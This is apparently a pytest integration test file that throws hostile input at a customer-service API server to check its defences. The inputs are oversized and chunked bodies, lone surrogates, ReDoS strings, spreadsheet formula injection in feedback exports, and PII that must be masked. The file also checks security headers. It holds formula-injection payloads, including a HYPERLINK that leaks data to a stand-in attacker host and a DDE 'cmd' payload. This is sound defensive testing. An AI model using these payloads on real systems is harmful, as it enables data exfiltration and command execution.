"""Hostile input against a real server, over real sockets: bodies that announce or stream
more than the cap, lone surrogates, texts built to make regular expressions backtrack,
unknown labels and spreadsheet formulas in intent corrections, personal data typed by a
customer; and the security headers of the pages and of JSON answers."""

from __future__ import annotations

import csv
import io
import json
import socket
import uuid
from collections.abc import Iterator

import pytest
from security_helpers import (
    ADMIN_KEY,
    ASSIST_KEY,
    HOST,
    WAIT_S,
    ApiServer,
    Frames,
    login,
    start_conversation,
    transcript,
)

pytestmark = pytest.mark.integration

MAX_BODY = 2 * 1024 * 1024  # Settings.max_body_bytes (the default: the server keeps it)


# ---------------------------------------------------------------------- raw HTTP


def _connect(server: ApiServer) -> socket.socket:
    return socket.create_connection((HOST, server.port), timeout=WAIT_S)


def _head(server: ApiServer, path: str, headers: dict[str, str]) -> bytes:
    lines = [f"POST {path} HTTP/1.1", f"Host: {HOST}:{server.port}"]
    lines += [f"{k}: {v}" for k, v in headers.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def _read_response(sock: socket.socket) -> tuple[int, dict[str, str], dict]:
    """Status, headers (lower-case names) and JSON body of one response."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        assert chunk, f"the server closed the connection without an answer: {data!r}"
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    status_line, *header_lines = head.decode("latin-1").split("\r\n")
    headers = {k.strip().lower(): v.strip() for k, v in (h.split(":", 1) for h in header_lines)}
    while len(body) < int(headers.get("content-length", "0")):
        chunk = sock.recv(65536)
        assert chunk, "the server closed the connection in the middle of its answer"
        body += chunk
    return int(status_line.split()[1]), headers, json.loads(body or b"null")


def _closed_by_server(sock: socket.socket) -> bool:
    """True once the server closes the connection (everything it sends is read)."""
    try:
        while sock.recv(65536):
            pass
    except ConnectionResetError:
        pass
    except TimeoutError:
        return False
    return True


@pytest.mark.parametrize("path", ["/v1/intent", "/v1/auth/login"])
def test_a_body_announced_as_2_gib_is_refused_without_being_read(api_server: ApiServer, path):
    with _connect(api_server) as sock:
        head = {"Content-Type": "application/json", "Content-Length": "2147483648"}
        sock.sendall(_head(api_server, path, head) + b'{"text": "' + b"a" * 4096)
        status, headers, body = _read_response(sock)
        assert status == 413, body
        assert body["error"]["code"] == "payload_too_large"
        assert headers.get("connection") == "close"
        # and it hangs up rather than waiting for the 2 GiB it was promised
        assert _closed_by_server(sock), "the server kept the connection open, reading on"


def _chunks(total: int, size: int = 64 * 1024) -> Iterator[bytes]:
    sent = 0
    while sent < total:
        n = min(size, total - sent)
        yield f"{n:x}\r\n".encode() + b" " * n + b"\r\n"
        sent += n


def _send_chunked(server: ApiServer, padding: int, finish: bool = True) -> tuple[int, dict]:
    """POST `{"text": ..., "padding": "<padding spaces>"}` in chunks, no Content-Length;
    without `finish`, the body's end never comes (nothing is left unread when the server
    hangs up after the cap, so its answer is not lost to a connection reset)."""
    with _connect(server) as sock:
        head = {"Content-Type": "application/json", "Transfer-Encoding": "chunked"}
        sock.sendall(_head(server, "/v1/intent", head))
        prefix = b'{"text": "where is my order", "padding": "'
        sock.sendall(f"{len(prefix):x}\r\n".encode() + prefix + b"\r\n")
        try:
            for chunk in _chunks(padding):
                sock.sendall(chunk)
            if finish:
                sock.sendall(b'2\r\n"}\r\n0\r\n\r\n')
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server answered early and hung up: its answer is read below
        status, _, body = _read_response(sock)
        return status, body


def test_a_streamed_body_over_the_cap_is_refused(api_server: ApiServer):
    status, body = _send_chunked(api_server, MAX_BODY, finish=False)  # the prefix tips it
    assert status == 413, body
    assert body["error"]["code"] == "payload_too_large"
    status, body = _send_chunked(api_server, 64 * 1024)  # the same, under the cap
    assert status == 422, body  # read whole, then refused for its unknown field
    assert "padding" in body["error"]["message"]


# ---------------------------------------------------------------------- surrogates


def _raw_post(server: ApiServer, path: str, body: bytes, token: str | None = None):
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    with server.client() as c:
        return c.post(path, content=body, headers=headers)


LONE = ["\\ud800", "\\udfff", "a\\udc00b", "\\ud800\\ud800", "\\ude00\\ud83d"]


def test_a_lone_surrogate_is_refused_with_422_and_not_stored(api_server: ApiServer):
    conversation_id, customer = start_conversation(api_server)
    path = f"/v1/conversations/{conversation_id}/messages"
    for k, escape in enumerate(LONE):
        body = f'{{"text": "hello {escape} world", "client_message_id": "s-{k}"}}'.encode()
        r = _raw_post(api_server, path, body, customer)
        assert r.status_code == 422, (escape, r.text)
        assert r.json()["error"]["code"] == "invalid_input"
    # a surrogate encoded as if it were UTF-8 (invalid UTF-8): refused alike, not a 500
    r = _raw_post(api_server, path, b'{"text": "hello \xed\xa0\x80 world"}', customer)
    assert r.status_code in (400, 422), r.text
    # nothing of it was stored (a returning customer's opening may be there: the bot's)
    assert [t for t in transcript(api_server, conversation_id) if t["role"] != "bot"] == []
    # a proper surrogate pair is a character like any other
    r = _raw_post(api_server, path, b'{"text": "hello \\ud83d\\ude00 world"}', customer)
    assert r.status_code == 200, r.text
    turns = transcript(api_server, conversation_id)
    assert [t["text"] for t in turns if t["role"] == "customer"] == ["hello \U0001f600 world"]


def test_a_lone_surrogate_is_a_4xx_on_every_text_field(api_server: ApiServer):
    alice = login(api_server)
    conversation_id, customer = start_conversation(api_server)
    bad = "x \\ud800 y"
    cases = [
        ("/v1/intent", f'{{"text": "{bad}"}}', None),
        ("/v1/intent:batch", f'{{"texts": ["fine", "{bad}"]}}', ASSIST_KEY),
        ("/v1/auth/login", f'{{"agent_id": "{bad}", "password": "whatever-1"}}', None),
        (
            "/v1/assist",
            f'{{"customer_id": "C-0002", "turns": [{{"role": "customer", "text": "{bad}"}}]}}',
            ASSIST_KEY,
        ),
        (
            "/v1/feedback",
            f'{{"kind": "intent_correction", "action": "corrected", "text": "{bad}", '
            '"corrected_intent": "track_order"}',
            alice,
        ),
        (f"/v1/conversations/{conversation_id}/handoff", f'{{"reason": "{bad}"}}', customer),
        (f"/v1/conversations/{conversation_id}/messages", f'{{"text": "{bad}"}}', customer),
    ]
    answers: dict[str, tuple[int, str]] = {}
    for path, body, token in cases:
        r = _raw_post(api_server, path, body.encode(), token)
        answers[path] = (r.status_code, r.text[:200])
    assert all(400 <= status < 500 for status, _ in answers.values()), answers
    assert all(status == 422 for p, (status, _) in answers.items() if "login" not in p), answers
    with api_server.client(ADMIN_KEY) as c:  # no hand-off was done, nothing stored
        r = c.get(f"/v1/conversations/{conversation_id}")
    said = [t for t in r.json()["turns"] if t["role"] != "bot"]  # the bot may open
    assert (r.json()["conversation"]["state"], said) == ("bot", [])


@pytest.mark.parametrize("path", ["/v1/events", "/v1/events:batch"])
def test_a_lone_surrogate_in_an_event_cannot_break_the_customers_timeline(
    api_server: ApiServer, path
):
    """An event's attributes are free-form: a lone surrogate in them must be refused, or
    stored in a form every later read can answer; never a timeline that answers 500."""
    customer = {"/v1/events": "C-000019", "/v1/events:batch": "C-000020"}[path]
    event = (
        f'{{"id": "e-{uuid.uuid4().hex[:8]}", "customer_id": "{customer}", "channel": "web", '
        '"type": "page_view", "ts": "2026-11-20T10:00:00Z", '
        '"attributes": {"page": "/phones/x \\ud800 y"}}'
    )
    body = event if path == "/v1/events" else f'{{"events": [{event}], "atomic": true}}'
    r = _raw_post(api_server, path, body.encode(), ASSIST_KEY)
    assert r.status_code < 500, r.text
    with api_server.client(ASSIST_KEY) as c:
        timeline = c.get(f"/v1/customers/{customer}/timeline")
    with api_server.client(ASSIST_KEY) as c:  # a new connection: a 500 closes the old one
        context = c.get(f"/v1/customers/{customer}/context")
    assert (timeline.status_code, context.status_code) == (200, 200), (
        f"after {path} answered {r.status_code} {r.text[:200]}: the timeline answers "
        f"{timeline.status_code} {timeline.text[:200]}"
    )


# ---------------------------------------------------------------------- ReDoS


# built to make backtracking patterns (e-mail, phone, amount, date, card, order number)
# take exponential time; RE2 matches each in linear time
REDOS = [
    "1." * 1000,
    "1" * 2000,
    "a@" * 1000,
    "a." * 999 + "@",
    "ORD-" * 500,
    "4111 " * 400,
    "+1 (" * 500,
    "€1,0" * 500,
    "12/12/" * 333,
    "1-2-3 " * 333,
    "a" * 1999 + "!",
    "!" * 2000,
    "aaaa@aaaa." * 200,
    "DE89 " * 400,
    "x" * 64 + "@" + "a." * 960,
    "0" * 1000 + "." + "0" * 999,
]


def test_redos_texts_are_answered_correctly_and_need_a_credential(api_server: ApiServer):
    assert len(REDOS) == 16 and all(len(t) <= 2000 for t in REDOS)
    with api_server.client() as c:
        assert c.post("/v1/intent:batch", json={"texts": REDOS}).status_code == 401
        labels = set(c.get("/v1/intent/model").json()["labels"]) | {"out_of_scope"}
        singles = [c.post("/v1/intent", json={"text": t}).json() for t in REDOS[:4]]
    _, customer = start_conversation(api_server)
    with api_server.client(customer) as c:  # a customer's token is no credential for it
        assert c.post("/v1/intent:batch", json={"texts": REDOS}).status_code == 403
    with api_server.client(ASSIST_KEY) as c:
        r = c.post("/v1/intent:batch", json={"texts": REDOS})
    assert r.status_code == 200, r.text
    results = r.json()["results"]
    assert [x["text"] for x in results] == [t.strip() for t in REDOS]  # all, in order
    for x in results:
        assert x["intent"] in labels and 0.0 <= x["confidence"] <= 1.0, x
        for e in x["entities"]:
            assert 0 <= e["start"] < e["end"] <= len(x["text"]), e
    # the same entities as one text at a time (the batch is no different path)
    for single, batched in zip(singles, results, strict=False):
        assert single["entities"] == batched["entities"]


# ---------------------------------------------------------------------- feedback


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
]


def test_intent_corrections_need_a_known_label_and_export_formulas_as_text(api_server: ApiServer):
    alice = login(api_server)
    tag = uuid.uuid4().hex[:8]

    def correction(text: str, label: str) -> int:
        body = {"kind": "intent_correction", "action": "corrected", "text": text}
        with api_server.client(alice) as c:
            return c.post("/v1/feedback", json=body | {"corrected_intent": label}).status_code

    assert correction(f"where is it {tag}", "not_a_real_intent") == 422
    assert correction(f"where is it {tag}", '=cmd|" /C calc"!A0') == 422
    for formula in FORMULAS:
        assert correction(f"{formula} {tag}", "track_order") == 201
    with api_server.client(ADMIN_KEY) as c:
        r = c.get("/v1/feedback/export", params={"format": "csv"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0] == ["text", "label"]
    ours = [row for row in rows if tag in row[0]]
    assert sorted(ours) == sorted([f"'{f} {tag}", "track_order"] for f in FORMULAS)
    assert not [
        row for row in rows[1:] if any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    ]


# ---------------------------------------------------------------------- headers


@pytest.mark.parametrize("page", ["/agent", "/shop"])
def test_pages_have_a_strict_content_security_policy(api_server: ApiServer, page):
    with api_server.client() as c:
        r = c.get(page)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    policy = {
        d.split()[0]: d.split()[1:]
        for d in r.headers["content-security-policy"].split(";")
        if d.strip()
    }
    script = policy.get("script-src", policy.get("default-src"))
    assert script is not None and "'unsafe-inline'" not in script and "'unsafe-eval'" not in script
    assert policy["frame-ancestors"] == ["'none'"]
    assert r.headers["x-frame-options"] == "DENY"
    assert r.headers["x-content-type-options"] == "nosniff"


def test_json_answers_are_nosniff(api_server: ApiServer):
    with api_server.client() as c:
        answers = [
            c.get("/healthz"),
            c.get("/v1/intent/model"),
            c.get("/v1/no-such-route"),
            c.get("/v1/handoff/queue"),  # 401
            c.post(
                "/v1/intent", content=b"{not json", headers={"Content-Type": "application/json"}
            ),
            c.post("/v1/intent", json={"text": "x" * 3000}),  # 413 from the route
        ]
    for r in answers:
        assert r.headers["content-type"].startswith("application/json"), r
        assert r.headers.get("x-content-type-options") == "nosniff", (r.request.url, r.status_code)


def test_the_body_cap_answer_is_nosniff_too(api_server: ApiServer):
    with _connect(api_server) as sock:
        head = {"Content-Type": "application/json", "Content-Length": str(MAX_BODY + 1)}
        sock.sendall(_head(api_server, "/v1/intent", head))
        status, headers, _ = _read_response(sock)
    assert status == 413
    assert headers.get("x-content-type-options") == "nosniff", headers


# ---------------------------------------------------------------------- PII


CARD, EMAIL = "4111 1111 1111 1111", "jane.roe+vip@example.com"
PII = [CARD, CARD.replace(" ", ""), CARD.replace(" ", "-"), EMAIL, "jane.roe"]


def _leaks(what: str, text: str) -> list[str]:
    return [f"{p!r} in {what}" for p in PII if p in text]


def test_pii_typed_by_a_customer_is_in_no_transcript_packet_stream_or_export(
    api_server: ApiServer,
):
    conversation_id, customer = start_conversation(api_server, "C-0002")
    alice = login(api_server)
    said = [
        f"I want a person. My card is {CARD}, mail me at {EMAIL}",
        f"or charge {CARD.replace(' ', '-')} instead, {EMAIL}",
    ]
    agent_path = f"/v1/ws/agent?conversation_id={conversation_id}"
    with Frames(api_server, agent_path, alice) as agent:
        with api_server.client(customer) as c:
            first, second = (
                c.post(f"/v1/conversations/{conversation_id}/messages", json={"text": text})
                for text in said
            )
            assert first.status_code == 200 and first.json()["state"] == "queued", first.text
            assert second.status_code == 200, second.text
        turn_id = first.json()["turn"]["id"]
        agent.wait_for("the assist payload", lambda f: f.get("type") == "assist")
        with api_server.client(alice) as c:
            assert c.post(f"/v1/conversations/{conversation_id}/claim").status_code == 200
            feedback = [  # the text taken from the stored turn; an agent pasting it again
                {"kind": "intent_correction", "action": "corrected", "turn_id": turn_id},
                {"kind": "intent_correction", "action": "corrected", "text": said[1]},
            ]
            for body in feedback:
                body |= {"conversation_id": conversation_id, "corrected_intent": "payment_issue"}
                r = c.post("/v1/feedback", json=body)
                assert r.status_code == 201, r.text
            agent_view = c.get(f"/v1/conversations/{conversation_id}").text
            packet = c.get(f"/v1/conversations/{conversation_id}/handoff").text
            assist = c.get(f"/v1/conversations/{conversation_id}/assist").text
        frames = "\n".join(agent.raw)
    with api_server.client(customer) as c:
        customer_view = c.get(f"/v1/conversations/{conversation_id}").text
    with api_server.client(ADMIN_KEY) as c:
        export_csv = c.get("/v1/feedback/export", params={"format": "csv"}).text
        export_jsonl = c.get("/v1/feedback/export", params={"format": "jsonl"}).text

    seen = {
        "the message answers": first.text + second.text,
        "the agent's transcript": agent_view,
        "the customer's transcript": customer_view,
        "the hand-off packet": packet,
        "the assist payload": assist,
        "the agent's live stream": frames,
        "the CSV export": export_csv,
        "the JSONL export": export_jsonl,
        "the server log": api_server.log_text(),
    }
    leaks = [leak for what, text in seen.items() for leak in _leaks(what, text)]
    assert not leaks, leaks
    # the turns are there, masked so that the agent can still tell the card and the e-mail
    texts = [t["text"] for t in transcript(api_server, conversation_id) if t["role"] == "customer"]
    assert texts == [
        "I want a person. My card is [CARD visa ****1111], mail me at [EMAIL]",
        "or charge [CARD visa ****1111] instead, [EMAIL]",
    ]
    assert "[CARD visa ****1111]" in packet and "[CARD visa ****1111]" in export_csv
